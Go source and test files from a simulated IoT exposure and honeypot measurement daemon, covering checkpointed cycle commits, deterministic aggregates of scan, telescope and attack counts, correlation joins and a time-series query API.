// a checkpoint at least as new. The observatory samples happen at the same
// barrier: the sim stream before the checkpoint (its state rides inside it),
// the wall stream after (it is excluded from every durability guarantee).
func (l *Loop) commit(events []honeypot.Event, span *obs.CycleSpan) error {
	cyc := int64(l.cycle - 1)
	l.obsv.appendSim(cyc, l.agg, inflightScanStats(l.scanState))
	name := fmt.Sprintf("cycle%04d", len(l.ckpts))
	if l.cfg.CheckpointDir != "" {
		st := serveCheckpoint{
			Cycle:          l.cycle,
			Campaign:       l.campaignResume,
			Scan:           l.scanState,
			Agg:            l.agg,
			TelescopeFiles: l.telFiles,
			Checkpoints:    l.ckpts,
		}
		if l.month != nil {
			var buf bytes.Buffer
			if err := honeypot.ExportJSONL(&buf, events); err != nil {
				return fmt.Errorf("checkpoint: %w", err)
			}
			st.Events = buf.String()
		}
		if l.obsv != nil {
			simState := l.obsv.Sim.State()
			tsRec, err := checkpoint.Save(l.cfg.CheckpointDir, "serve-tsdb", name, l.cfg.Seed, simState)
			if err != nil {
				return err
			}
			crashpoint.Here(crashpoint.SiteServeTSDBWritten)
			st.TSDB = simState
			st.TSDBDigest = tsRec.Digest
		}
		recd, err := checkpoint.Save(l.cfg.CheckpointDir, "serve", name, l.cfg.Seed, &st)
		if err != nil {
			return err
		}
		l.ckpts = append(l.ckpts, recd)
		l.lastCkptCycle = l.cycle
		crashpoint.Here(crashpoint.SiteServeCycleCommit)
	}
	span.Mark("commit")
	legs, total := span.Finish()
	l.obsv.appendWall(cyc, legs, total)
	l.obsv.publish()
	if l.cfg.CheckpointDir != "" && l.obsv != nil {
		// The wall file is profiling history only: no crashpoint, no digest,
		// no determinism claim — Restore loads it leniently.
		if _, err := checkpoint.Save(l.cfg.CheckpointDir, "serve-tsdb-wall", name, l.cfg.Seed, l.obsv.Wall.State()); err != nil {
			return err
		}
	}
	return l.publish()
}

// publish renders and swaps in the snapshot for the current position.
func (l *Loop) publish() error {
	st := statusBody{
		Seed:             l.cfg.Seed,
		Prefix:           l.cfg.Prefix.String(),
		Intensity:        l.cfg.Intensity,
		Scale:            l.cfg.Scale,
		SegmentsPerCycle: l.cfg.SegmentsPerCycle,
		SegmentTargets:   l.cfg.SegmentTargets,
	}
	if l.obsv != nil {
		legs, total := l.obsv.LastCycleWall()
		ops := &OpsStatus{
			CyclesCompleted:     l.cycle,
			LastCycleWallNS:     total.Nanoseconds(),
			CheckpointLag:       l.cycle - l.lastCkptCycle,
			TSDBRetentionCycles: l.obsv.Retention(),
			TSDBSeries:          l.obsv.SeriesCount(),
		}
		for _, leg := range legs {
			if ops.LegWallNS == nil {
				ops.LegWallNS = make(map[string]int64, len(legs))
			}
			ops.LegWallNS[leg.Name] = leg.WallNS
		}
		st.Ops = ops
	}
	snap, err := render(l.agg, l.cycle, st)
	if err != nil {
		return err
	}
	l.pub.Publish(snap)
	if reg := l.cfg.Registry; reg != nil {
		w := snap.Watermark
		reg.SetGauge("serve.cycle", float64(w.Cycle))
		reg.SetGauge("serve.sweeps_complete", float64(w.SweepsComplete))
		reg.SetGauge("serve.targets_fed", float64(w.TargetsFed))
		reg.SetGauge("serve.attack_events", float64(w.AttackEvents))
		reg.SetGauge("serve.telescope_flows", float64(w.TelescopeFlows))
	}
	if l.cfg.OnPublish != nil {
		l.cfg.OnPublish(snap)
	}
	return nil
}

// AggregatesJSON renders the -out artifact: watermark, full aggregate state
// and the correlation joins, newline-terminated. Byte-identical for a given
// (seed, config, cycle) across runs, worker counts and kill/resume.
func (l *Loop) AggregatesJSON() ([]byte, error) {
	return marshalBody(struct {
		Watermark   Watermark   `json:"watermark"`
		Aggregates  *Aggregates `json:"aggregates"`
		Correlation Correlation `json:"correlation"`
	}{l.agg.Watermark(l.cycle), l.agg, l.agg.Correlation()})
}
