package serve

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"testing"

	"openhire/internal/checkpoint"
	"openhire/internal/obs/tsdb"
)

// simState runs a fresh loop for cycles cycles and returns the sim stream's
// marshaled state.
func simState(t *testing.T, cfg Config, cycles int) []byte {
	t.Helper()
	l := New(cfg)
	if err := l.Run(context.Background(), cycles); err != nil {
		t.Fatal(err)
	}
	data, err := l.Observatory().Sim.MarshalState()
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// TestTSDBWorkerCountIndependent asserts the sim time-series state is
// byte-identical across worker counts: every point is sampled from
// order-normalized aggregates on the single-threaded driver, so scheduling
// can never leak into the history.
func TestTSDBWorkerCountIndependent(t *testing.T) {
	const cycles = 3
	golden := simState(t, testConfig(7), cycles)
	if len(golden) == 0 {
		t.Fatal("empty sim tsdb state")
	}
	for _, workers := range []int{1, 32} {
		got := simState(t, testConfig(workers), cycles)
		if !bytes.Equal(golden, got) {
			t.Errorf("workers=%d: sim tsdb state differs from workers=7:\n want: %s\n got:  %s", workers, golden, got)
		}
	}
}

// TestTSDBDisabledZeroPerturbation is the zero-perturbation gate: running
// with the observatory disabled must yield byte-identical leg artifacts —
// the tsdb only observes the aggregates, never feeds back into them.
func TestTSDBDisabledZeroPerturbation(t *testing.T) {
	const cycles = 3
	run := func(disabled bool) ([]byte, map[int]*Published) {
		cfg := testConfig(7)
		cfg.TSDBDisabled = disabled
		snaps := make(map[int]*Published)
		cfg.OnPublish = func(s *Published) { snaps[s.Watermark.Cycle] = s }
		l := New(cfg)
		if err := l.Run(context.Background(), cycles); err != nil {
			t.Fatal(err)
		}
		data, err := l.AggregatesJSON()
		if err != nil {
			t.Fatal(err)
		}
		return data, snaps
	}
	onJSON, onSnaps := run(false)
	offJSON, offSnaps := run(true)
	if !bytes.Equal(onJSON, offJSON) {
		t.Errorf("aggregates differ between tsdb on and off")
	}
	for c := 1; c <= cycles; c++ {
		sameSnapshot(t, fmt.Sprintf("tsdb on/off cycle=%d", c), onSnaps[c], offSnaps[c])
	}
}

// TestTSDBCheckpointFileMatchesEmbedded asserts the standalone serve-tsdb
// checkpoint file carries exactly the state embedded in the serve record —
// the digest the checkpoint stores is the file's actual digest, and a fresh
// store loaded from the file round-trips to the live store's bytes.
func TestTSDBCheckpointFileMatchesEmbedded(t *testing.T) {
	dir := t.TempDir()
	cfg := testConfig(7)
	cfg.CheckpointDir = dir
	l := New(cfg)
	if err := l.Run(context.Background(), 2); err != nil {
		t.Fatal(err)
	}
	live, err := l.Observatory().Sim.MarshalState()
	if err != nil {
		t.Fatal(err)
	}

	data, err := os.ReadFile(checkpoint.FileName(dir, "serve-tsdb"))
	if err != nil {
		t.Fatal(err)
	}
	_, _, payload, err := checkpoint.Decode(data)
	if err != nil {
		t.Fatal(err)
	}
	st, err := tsdb.ParseState(payload)
	if err != nil {
		t.Fatal(err)
	}
	db := tsdb.New(tsdb.Options{RawCapacity: st.RawCapacity, RollupEvery: st.RollupEvery, RollupCapacity: st.RollupCapacity})
	if err := db.LoadState(st); err != nil {
		t.Fatal(err)
	}
	loaded, err := db.MarshalState()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(live, loaded) {
		t.Errorf("serve-tsdb.ckpt state differs from the live store:\n want: %s\n got:  %s", live, loaded)
	}

	// A corrupted standalone file (the kill-between-writes window) must be
	// rewritten from the embedded state on restore.
	if err := os.WriteFile(checkpoint.FileName(dir, "serve-tsdb"), []byte("torn"), 0o644); err != nil {
		t.Fatal(err)
	}
	second := New(cfg)
	found, err := second.Restore()
	if err != nil || !found {
		t.Fatalf("Restore: found=%v err=%v", found, err)
	}
	rewritten, err := os.ReadFile(checkpoint.FileName(dir, "serve-tsdb"))
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(rewritten, data) {
		t.Error("restore did not rewrite the torn serve-tsdb.ckpt back to the committed bytes")
	}
}

// TestTimeseriesAPI drives a 31-cycle daemon — crossing the first rollup
// window boundary — and exercises the live query surface: the catalog, a
// 30+-cycle raw trend query, the rollup tier, the Prometheus range export,
// query validation, and the status ops block.
func TestTimeseriesAPI(t *testing.T) {
	if testing.Short() {
		t.Skip("31-cycle daemon run")
	}
	const cycles = 31
	cfg := testConfig(9)
	cfg.TelescopeDir = filepath.Join(t.TempDir(), "telescope")
	l := New(cfg)
	if err := l.Run(context.Background(), cycles); err != nil {
		t.Fatal(err)
	}
	mux := NewMux(l.Publisher(), nil, l.Observatory())
	get := func(path string, wantStatus int) []byte {
		t.Helper()
		w := httptest.NewRecorder()
		mux.ServeHTTP(w, httptest.NewRequest(http.MethodGet, path, nil))
		if w.Code != wantStatus {
			t.Fatalf("GET %s: status %d (want %d): %s", path, w.Code, wantStatus, w.Body.String())
		}
		return w.Body.Bytes()
	}

	var cat tsdb.Catalog
	if err := json.Unmarshal(get("/api/timeseries", http.StatusOK), &cat); err != nil {
		t.Fatal(err)
	}
	if cat.LastCycle != cycles-1 {
		t.Errorf("catalog last_cycle = %d, want %d", cat.LastCycle, cycles-1)
	}
	streams := map[string]bool{}
	for _, s := range cat.Series {
		streams[s.Stream] = true
	}
	if !streams["sim"] || !streams["wall"] {
		t.Errorf("catalog streams = %v, want both sim and wall", streams)
	}

	var res tsdb.Result
	if err := json.Unmarshal(get("/api/timeseries?metric=serve.trend.attack_events&from=0", http.StatusOK), &res); err != nil {
		t.Fatal(err)
	}
	if len(res.Series) != 1 || len(res.Series[0].Points) != cycles {
		t.Fatalf("trend query returned %d series / %d points, want 1 / %d",
			len(res.Series), pointCount(res), cycles)
	}

	if err := json.Unmarshal(get("/api/timeseries?metric=serve.trend.attack_events&tier=rollup", http.StatusOK), &res); err != nil {
		t.Fatal(err)
	}
	if len(res.Series) != 1 || len(res.Series[0].Buckets) != 2 {
		t.Fatalf("rollup query returned %d series / %d buckets, want 1 / 2 (completed [0..29] + active [30])",
			len(res.Series), bucketCount(res))
	}
	if b := res.Series[0].Buckets[0]; b.Start != 0 || b.Count != 30 {
		t.Errorf("first rollup bucket = start %d count %d, want start 0 count 30", b.Start, b.Count)
	}

	// Wall-stream fallback: leg attribution lives in the wall store but is
	// reachable through the same endpoint.
	if err := json.Unmarshal(get("/api/timeseries?metric=serve.cycle.leg_wall_ns", http.StatusOK), &res); err != nil {
		t.Fatal(err)
	}
	if len(res.Series) == 0 {
		t.Error("no leg attribution series from the wall stream")
	}

	prom := get("/api/timeseries?metric=serve.trend.attack_events&from=0&format=prom", http.StatusOK)
	if !bytes.HasPrefix(prom, []byte("# TYPE serve_trend_attack_events gauge\n")) {
		t.Errorf("prom export missing TYPE header: %.80s", prom)
	}
	if got := bytes.Count(prom, []byte("\n")); got != cycles+1 {
		t.Errorf("prom export has %d lines, want %d", got, cycles+1)
	}

	get("/api/timeseries?metric=x&tier=bogus", http.StatusBadRequest)
	get("/api/timeseries?metric=x&label=nocolon", http.StatusBadRequest)

	var status struct {
		Ops *OpsStatus `json:"ops"`
	}
	if err := json.Unmarshal(get("/api/status", http.StatusOK), &status); err != nil {
		t.Fatal(err)
	}
	if status.Ops == nil {
		t.Fatal("/api/status has no ops block")
	}
	if status.Ops.CyclesCompleted != cycles || status.Ops.TSDBSeries == 0 || status.Ops.LastCycleWallNS <= 0 {
		t.Errorf("ops block = %+v, want cycles_completed=%d and live tsdb/wall figures", status.Ops, cycles)
	}
	if len(status.Ops.LegWallNS) == 0 {
		t.Error("ops block has no per-leg wall attribution")
	}

	// The hourly telescope capture directory fills as cycles drain.
	names, err := filepath.Glob(filepath.Join(cfg.TelescopeDir, "day*-hour*.csv"))
	if err != nil {
		t.Fatal(err)
	}
	if len(names) == 0 {
		t.Error("no hourly telescope capture files written")
	}
	if got := len(l.TelescopeFiles()); got != len(names) {
		t.Errorf("loop tracked %d telescope file digests, %d files on disk", got, len(names))
	}
}

func pointCount(r tsdb.Result) int {
	n := 0
	for _, s := range r.Series {
		n += len(s.Points)
	}
	return n
}

func bucketCount(r tsdb.Result) int {
	n := 0
	for _, s := range r.Series {
		n += len(s.Buckets)
	}
	return n
}

// BenchmarkServeCycle measures one full daemon cycle (all three legs plus the
// observatory samples) on the small test world.
func BenchmarkServeCycle(b *testing.B) {
	cfg := testConfig(9)
	l := New(cfg)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := l.runCycle(); err != nil {
			b.Fatal(err)
		}
	}
}
