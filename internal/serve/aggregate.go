// Package serve is the continuous-measurement daemon behind openhire-serve:
// it drives the paper's three legs — segmented scanner sweeps, daily darknet
// generation into the telescope, and the honeypot attack campaign — forever
// over simulated time, folding their outputs into incremental aggregates at
// cycle boundaries and publishing copy-on-write snapshots to an HTTP/JSON
// query API.
//
// One cycle is one simulated day. Aggregate state is a pure function of
// (seed, config, cycle): every fold happens on the single-threaded cycle
// driver from canonical (order-normalized) leg outputs, so the published
// snapshots — and the checkpoints that make the daemon kill-safe — are
// byte-identical across runs, worker counts and kill/resume cycles.
package serve

import (
	"encoding/json"
	"sort"
	"time"

	"openhire/internal/core/classify"
	"openhire/internal/core/fingerprint"
	"openhire/internal/core/scan"
	"openhire/internal/honeypot"
	"openhire/internal/iot"
	"openhire/internal/netsim"
	"openhire/internal/telescope"
)

// IPSet is a set of addresses that marshals deterministically: JSON form is
// the sorted address array, so checkpoint and snapshot bytes are independent
// of insertion order. The zero value is empty; use Add (through a pointer
// field) to insert.
type IPSet map[netsim.IPv4]struct{}

// Add inserts ip, allocating the map on first use. Allocation on demand keeps
// the empty set nil, which omitempty elides — a freshly-started and a
// restored-empty daemon checkpoint identically.
func (s *IPSet) Add(ip netsim.IPv4) {
	if *s == nil {
		*s = make(IPSet)
	}
	(*s)[ip] = struct{}{}
}

// Contains reports membership.
func (s IPSet) Contains(ip netsim.IPv4) bool {
	_, ok := s[ip]
	return ok
}

// MarshalJSON renders the sorted address array.
func (s IPSet) MarshalJSON() ([]byte, error) {
	ips := make([]uint32, 0, len(s))
	for ip := range s {
		ips = append(ips, uint32(ip))
	}
	sort.Slice(ips, func(i, j int) bool { return ips[i] < ips[j] })
	return json.Marshal(ips)
}

// UnmarshalJSON restores from the address array.
func (s *IPSet) UnmarshalJSON(data []byte) error {
	var ips []uint32
	if err := json.Unmarshal(data, &ips); err != nil {
		return err
	}
	if len(ips) == 0 {
		*s = nil
		return nil
	}
	set := make(IPSet, len(ips))
	for _, ip := range ips {
		set[netsim.IPv4(ip)] = struct{}{}
	}
	*s = set
	return nil
}

// intersect2 counts the addresses present in both sets.
func intersect2(a, b IPSet) int {
	if len(b) < len(a) {
		a, b = b, a
	}
	n := 0
	for ip := range a {
		if b.Contains(ip) {
			n++
		}
	}
	return n
}

// intersect3 counts the addresses present in all three sets.
func intersect3(a, b, c IPSet) int {
	n := 0
	for ip := range a {
		if b.Contains(ip) && c.Contains(ip) {
			n++
		}
	}
	return n
}

// ProtocolExposure is one protocol's accumulated scan-side exposure: the
// Table 4/5 columns, maintained incrementally as segments drain instead of
// at end of run.
type ProtocolExposure struct {
	// Targets is the (address, port) pairs fed to the prober.
	Targets uint64 `json:"targets"`
	// Responded is the endpoints that answered the protocol probe.
	Responded uint64 `json:"responded"`
	// Honeypots is the responses filtered out as honeypot fingerprints.
	Honeypots uint64 `json:"honeypots_filtered,omitempty"`
	// Misconfigured is the genuine responses classified as vulnerable.
	Misconfigured uint64 `json:"misconfigured,omitempty"`
	// ByClass splits Misconfigured by Table 2/3 vulnerability class.
	ByClass map[string]uint64 `json:"by_class,omitempty"`
}

// add folds o into e.
func (e *ProtocolExposure) add(o *ProtocolExposure) {
	e.Targets += o.Targets
	e.Responded += o.Responded
	e.Honeypots += o.Honeypots
	e.Misconfigured += o.Misconfigured
	for cls, n := range o.ByClass {
		if e.ByClass == nil {
			e.ByClass = make(map[string]uint64)
		}
		e.ByClass[cls] += n
	}
}

// ExposureState is the exposure table across sweeps: the in-flight sweep's
// partial counts, the last finished sweep (the daemon's "current exposure"
// answer), and the cumulative totals.
type ExposureState struct {
	// Sweep is the index of the sweep currently walking the prefix.
	Sweep int `json:"sweep"`
	// SweepsComplete is how many full sweeps have finished.
	SweepsComplete int `json:"sweeps_complete"`
	// Current accumulates the in-flight sweep, segment by segment.
	Current map[string]*ProtocolExposure `json:"current,omitempty"`
	// Complete is the last finished sweep's final table.
	Complete map[string]*ProtocolExposure `json:"complete,omitempty"`
	// Total accumulates every finished sweep.
	Total map[string]*ProtocolExposure `json:"total,omitempty"`
}

// DayTrend is one simulated day's attack-trend row: the Figure 8 daily
// series extended with the telescope's volume and hourly rotation buckets.
type DayTrend struct {
	// Day is the absolute simulated day (cycle) index.
	Day int `json:"day"`
	// AttackEvents is the honeypot events logged that day.
	AttackEvents int `json:"attack_events"`
	// AttacksByType splits AttackEvents by attack type.
	AttacksByType map[string]int `json:"attacks_by_type,omitempty"`
	// AttackSources is the distinct source addresses seen that day.
	AttackSources int `json:"attack_sources"`
	// TelescopeFlows and TelescopePackets are the darknet day's volume.
	TelescopeFlows   int    `json:"telescope_flows"`
	TelescopePackets uint64 `json:"telescope_packets"`
	// HourlyPackets is the day's telescope volume cut at the hourly
	// rotation cadence (24 buckets).
	HourlyPackets []uint64 `json:"hourly_packets,omitempty"`
}

// TrendState is the attack-trend time series, one row per completed day.
type TrendState struct {
	Days []DayTrend `json:"days,omitempty"`
}

// day returns the row for absolute day d, extending the series as needed.
func (t *TrendState) day(d int) *DayTrend {
	for len(t.Days) <= d {
		t.Days = append(t.Days, DayTrend{Day: len(t.Days)})
	}
	return &t.Days[d]
}

// CorrelateState holds the three population sets behind the paper's
// misconfiguration/attacker correlation (Section 5.3): which scanned-out
// misconfigured devices also show up attacking the honeypots or the
// telescope.
type CorrelateState struct {
	// Misconfigured is every misconfigured device the sweeps classified.
	Misconfigured IPSet `json:"misconfigured,omitempty"`
	// HoneypotSources is every address that attacked a honeypot.
	HoneypotSources IPSet `json:"honeypot_sources,omitempty"`
	// TelescopeSources is every address the telescope captured.
	TelescopeSources IPSet `json:"telescope_sources,omitempty"`
}

// Correlation is the rendered /api/correlate body.
type Correlation struct {
	Misconfigured    int `json:"misconfigured"`
	HoneypotSources  int `json:"honeypot_sources"`
	TelescopeSources int `json:"telescope_sources"`
	// MisconfiguredAttacking is |misconfigured ∩ honeypot sources| — the
	// paper's headline join (11,118 at full scale).
	MisconfiguredAttacking int `json:"misconfigured_attacking"`
	// MisconfiguredScanning is |misconfigured ∩ telescope sources|.
	MisconfiguredScanning int `json:"misconfigured_scanning"`
	// AttackingScanning is |honeypot ∩ telescope sources|.
	AttackingScanning int `json:"attacking_scanning"`
	// AllThree is the triple intersection.
	AllThree int `json:"all_three"`
}

// Watermark stamps every published snapshot with the simulated-time position
// it reflects: responses carrying equal watermarks are byte-identical across
// runs, worker counts, and kill/resume cycles.
type Watermark struct {
	// Cycle is the number of completed cycles (simulated days).
	Cycle int `json:"cycle"`
	// Month is the attack month the next cycle belongs to.
	Month int `json:"month"`
	// Sweep is the scan sweep currently in flight.
	Sweep int `json:"sweep"`
	// SweepsComplete is how many full prefix sweeps have finished.
	SweepsComplete int `json:"sweeps_complete"`
	// TargetsFed is the cumulative (address, port) pairs probed.
	TargetsFed uint64 `json:"targets_fed"`
	// AttackEvents and TelescopeFlows/TelescopePackets are the cumulative
	// per-leg volumes folded so far.
	AttackEvents     int    `json:"attack_events"`
	TelescopeFlows   int    `json:"telescope_flows"`
	TelescopePackets uint64 `json:"telescope_packets"`
}

// Aggregates is the daemon's complete derived state. It is mutated only by
// the single-threaded cycle driver and read only through deep-copied
// published snapshots, so it needs no locking; it marshals deterministically
// (sorted maps, sorted IP sets, no wall-clock fields), which is what lets
// the checkpoint carry it verbatim.
type Aggregates struct {
	Exposure  ExposureState  `json:"exposure"`
	Trends    TrendState     `json:"trends"`
	Correlate CorrelateState `json:"correlate"`
	// TargetsFed is the cumulative scan targets across sweeps, including
	// the in-flight one.
	TargetsFed uint64 `json:"targets_fed"`
	// ScanStats accumulates the deterministic scanner stat counters
	// (probed, timeouts, breaker_skipped, ...) across finished sweeps; the
	// in-flight sweep's counters live in its SegmentedState until it closes.
	ScanStats map[string]uint64 `json:"scan_stats,omitempty"`
}

// FoldSegment folds one drained scan segment into the in-flight sweep's
// exposure table: honeypot fingerprints are filtered exactly as the batch
// pipeline does, the genuine responders are classified, and misconfigured
// addresses join the correlation set. Results arrive sorted by (IP, Port)
// from the scanner's OnSegment hook, so the fold order — and therefore the
// aggregate bytes — are worker-count independent.
func (a *Aggregates) FoldSegment(proto iot.Protocol, targets int, results []*scan.Result) {
	if a.Exposure.Current == nil {
		a.Exposure.Current = make(map[string]*ProtocolExposure)
	}
	cur := a.Exposure.Current[string(proto)]
	if cur == nil {
		cur = &ProtocolExposure{}
		a.Exposure.Current[string(proto)] = cur
	}
	cur.Targets += uint64(targets)
	a.TargetsFed += uint64(targets)
	genuine, pots := fingerprint.Filter(results)
	cur.Responded += uint64(len(results))
	cur.Honeypots += uint64(len(pots))
	for _, r := range genuine {
		f := classify.Classify(r)
		if !f.Misconfigured() {
			continue
		}
		cur.Misconfigured++
		if cur.ByClass == nil {
			cur.ByClass = make(map[string]uint64)
		}
		cur.ByClass[f.Misconfig.String()]++
		a.Correlate.Misconfigured.Add(r.IP)
	}
}

// FoldSweepStats folds a finished sweep's per-module scanner stats into the
// cumulative counters (wall-clock Elapsed excluded via Counters).
func (a *Aggregates) FoldSweepStats(stats map[iot.Protocol]scan.Stats) {
	for _, st := range stats {
		for name, v := range st.Counters() {
			if a.ScanStats == nil {
				a.ScanStats = make(map[string]uint64)
			}
			a.ScanStats[name] += v
		}
	}
}

// FinishSweep closes the in-flight sweep: its table becomes Complete, folds
// into Total, and the counters advance to the next sweep.
func (a *Aggregates) FinishSweep() {
	a.Exposure.Complete = a.Exposure.Current
	a.Exposure.Current = nil
	for proto, e := range a.Exposure.Complete {
		if a.Exposure.Total == nil {
			a.Exposure.Total = make(map[string]*ProtocolExposure)
		}
		tot := a.Exposure.Total[proto]
		if tot == nil {
			tot = &ProtocolExposure{}
			a.Exposure.Total[proto] = tot
		}
		tot.add(e)
	}
	a.Exposure.SweepsComplete++
	a.Exposure.Sweep++
}

// FoldMonthEvents re-derives the current month's trend rows from the month's
// canonical event log, through day throughDay (inclusive, month-relative).
// Re-deriving the whole month window — instead of appending one day's delta —
// makes the fold idempotent: a cycle replayed after a kill lands on exactly
// the rows the killed run had, because the log it folds from is itself
// restored canonically.
func (a *Aggregates) FoldMonthEvents(month, throughDay int, events []honeypot.Event) {
	days := throughDay + 1
	counts := honeypot.DailyCounts(events, netsim.ExperimentStart, days)
	byType := make([]map[string]int, days)
	sources := make([]IPSet, days)
	for _, ev := range events {
		if ev.Time.Before(netsim.ExperimentStart) {
			continue
		}
		d := int(ev.Time.Sub(netsim.ExperimentStart) / (24 * time.Hour))
		if d < 0 || d >= days {
			continue
		}
		if byType[d] == nil {
			byType[d] = make(map[string]int)
		}
		byType[d][string(ev.Type)]++
		sources[d].Add(ev.Src)
		a.Correlate.HoneypotSources.Add(ev.Src)
	}
	base := month * monthDays
	for d := 0; d < days; d++ {
		row := a.Trends.day(base + d)
		row.AttackEvents = counts[d]
		row.AttacksByType = byType[d]
		row.AttackSources = len(sources[d])
	}
}

// FoldTelescopeDay folds one drained darknet day into the trend row for the
// absolute day cycle: flow/packet volume, the hourly rotation buckets, and
// the telescope-source correlation set. dayStart is the day's simulated
// start (month-relative: the generator stamps every month into the same
// April window).
func (a *Aggregates) FoldTelescopeDay(cycle int, dayStart time.Time, flows []*telescope.FlowTuple) {
	row := a.Trends.day(cycle)
	row.TelescopeFlows = len(flows)
	row.TelescopePackets = 0
	hourly := make([]uint64, 24)
	for h, part := range telescope.PartitionByHour(flows, dayStart, 24) {
		for _, ft := range part {
			hourly[h] += uint64(ft.PacketCnt)
		}
	}
	for _, ft := range flows {
		row.TelescopePackets += uint64(ft.PacketCnt)
		a.Correlate.TelescopeSources.Add(ft.SrcIP)
	}
	row.HourlyPackets = hourly
}

// Correlation renders the correlation join counts.
func (a *Aggregates) Correlation() Correlation {
	c := a.Correlate
	return Correlation{
		Misconfigured:          len(c.Misconfigured),
		HoneypotSources:        len(c.HoneypotSources),
		TelescopeSources:       len(c.TelescopeSources),
		MisconfiguredAttacking: intersect2(c.Misconfigured, c.HoneypotSources),
		MisconfiguredScanning:  intersect2(c.Misconfigured, c.TelescopeSources),
		AttackingScanning:      intersect2(c.HoneypotSources, c.TelescopeSources),
		AllThree:               intersect3(c.Misconfigured, c.HoneypotSources, c.TelescopeSources),
	}
}

// Watermark stamps the aggregate state after cycle cycles have completed.
func (a *Aggregates) Watermark(cycle int) Watermark {
	w := Watermark{
		Cycle:          cycle,
		Month:          cycle / monthDays,
		Sweep:          a.Exposure.Sweep,
		SweepsComplete: a.Exposure.SweepsComplete,
		TargetsFed:     a.TargetsFed,
	}
	for _, row := range a.Trends.Days {
		w.AttackEvents += row.AttackEvents
		w.TelescopeFlows += row.TelescopeFlows
		w.TelescopePackets += row.TelescopePackets
	}
	return w
}
