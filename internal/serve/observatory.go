package serve

import (
	"fmt"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"sort"
	"sync/atomic"
	"time"

	"openhire/internal/checkpoint/atomicio"
	"openhire/internal/checkpoint/crashpoint"
	"openhire/internal/core/scan"
	"openhire/internal/obs"
	"openhire/internal/obs/tsdb"
	"openhire/internal/telescope"
)

// Observatory is the daemon's time-series store pair plus the wall-clock
// self-profiling instruments. The two streams are strictly separated:
//
//   - Sim holds series that are pure functions of (seed, config, cycle) —
//     exposure counts per protocol, attack trend rows, telescope hourly
//     buckets, scan/breaker counters. Its marshaled state is byte-identical
//     across runs, worker counts and kill/resume, rides the serve checkpoint,
//     and is what the determinism gates compare.
//   - Wall holds self-profiling series — per-leg cycle durations from
//     obs.CycleSpan, GC/heap deltas from runtime.ReadMemStats, API request
//     latency — which are explicitly excluded from manifests, checkpoint
//     digests and every determinism guarantee.
//
// Both stores are appended only by the single-threaded cycle driver at
// commit; API handlers read their published COW views.
type Observatory struct {
	Sim  *tsdb.DB
	Wall *tsdb.DB

	// apiReqs/apiLatSum/apiLatMax accumulate API request latency. Handlers
	// update them with atomics from arbitrary goroutines; the driver samples
	// them into Wall at each commit.
	apiReqs   atomic.Uint64
	apiLatSum atomic.Int64
	apiLatMax atomic.Int64

	prevMem    runtime.MemStats
	havePrev   bool
	lastLegs   []obs.CycleLeg
	lastTotal  time.Duration
	sampleWall bool
}

// newObservatory builds the store pair for the resolved config. Returns nil
// when the tsdb is disabled — every method is nil-safe, so the loop threads
// it unconditionally.
func newObservatory(cfg Config) *Observatory {
	if cfg.TSDBDisabled {
		return nil
	}
	opt := tsdb.Options{RawCapacity: cfg.TSDBRetention}
	return &Observatory{
		Sim:        tsdb.New(opt),
		Wall:       tsdb.New(opt),
		sampleWall: true,
	}
}

// Retention returns the raw retention window in cycles (0 when disabled).
func (o *Observatory) Retention() int {
	if o == nil {
		return 0
	}
	return o.Sim.Options().RawCapacity
}

// SeriesCount returns the sim-stream series count.
func (o *Observatory) SeriesCount() int {
	if o == nil {
		return 0
	}
	return len(o.Sim.View().Series())
}

// ObserveRequest records one API request's wall latency (handler-side,
// concurrent). It touches only the wall-stream atomics, never sim state.
func (o *Observatory) ObserveRequest(d time.Duration) {
	if o == nil {
		return
	}
	ns := d.Nanoseconds()
	if ns < 0 {
		ns = 0
	}
	o.apiReqs.Add(1)
	o.apiLatSum.Add(ns)
	for {
		cur := o.apiLatMax.Load()
		if ns <= cur || o.apiLatMax.CompareAndSwap(cur, ns) {
			return
		}
	}
}

// appendSim samples the deterministic stream for the just-completed cycle
// cyc (the day index) from the aggregate state. Driver-thread only; the
// caller publishes afterwards.
func (o *Observatory) appendSim(cyc int64, a *Aggregates, scanInFlight map[string]uint64) {
	if o == nil {
		return
	}
	if d := int(cyc); d >= 0 && d < len(a.Trends.Days) {
		row := a.Trends.Days[d]
		o.Sim.Append(cyc, "serve.trend.attack_events", nil, float64(row.AttackEvents))
		o.Sim.Append(cyc, "serve.trend.attack_sources", nil, float64(row.AttackSources))
		o.Sim.Append(cyc, "serve.trend.telescope_flows", nil, float64(row.TelescopeFlows))
		o.Sim.Append(cyc, "serve.trend.telescope_packets", nil, float64(row.TelescopePackets))
		for h, pkts := range row.HourlyPackets {
			o.Sim.Append(cyc, "serve.telescope.hourly_packets",
				tsdb.Labels{{Key: "hour", Value: fmt.Sprintf("%02d", h)}}, float64(pkts))
		}
	}
	// Exposure: cumulative per-protocol counts across finished sweeps plus
	// the in-flight one, keyed like Table 4/5.
	for _, proto := range sortedProtoKeys(a.Exposure.Total, a.Exposure.Current) {
		var targets, responded, misconfigured uint64
		if e := a.Exposure.Total[proto]; e != nil {
			targets += e.Targets
			responded += e.Responded
			misconfigured += e.Misconfigured
		}
		if e := a.Exposure.Current[proto]; e != nil {
			targets += e.Targets
			responded += e.Responded
			misconfigured += e.Misconfigured
		}
		lbl := tsdb.Labels{{Key: "protocol", Value: proto}}
		o.Sim.Append(cyc, "serve.exposure.targets", lbl, float64(targets))
		o.Sim.Append(cyc, "serve.exposure.responded", lbl, float64(responded))
		o.Sim.Append(cyc, "serve.exposure.misconfigured", lbl, float64(misconfigured))
	}
	// Scan/breaker counters: finished sweeps' fold plus the in-flight
	// segmented state's deterministic stat shards.
	for _, name := range sortedStatKeys(a.ScanStats, scanInFlight) {
		o.Sim.Append(cyc, "serve.scan."+name, nil, float64(a.ScanStats[name]+scanInFlight[name]))
	}
	o.Sim.Append(cyc, "serve.watermark.targets_fed", nil, float64(a.TargetsFed))
	o.Sim.Append(cyc, "serve.watermark.sweeps_complete", nil, float64(a.Exposure.SweepsComplete))
}

// appendWall samples the self-profiling stream for cycle cyc: per-leg wall
// attribution, runtime memory/GC deltas, and the API latency accumulators.
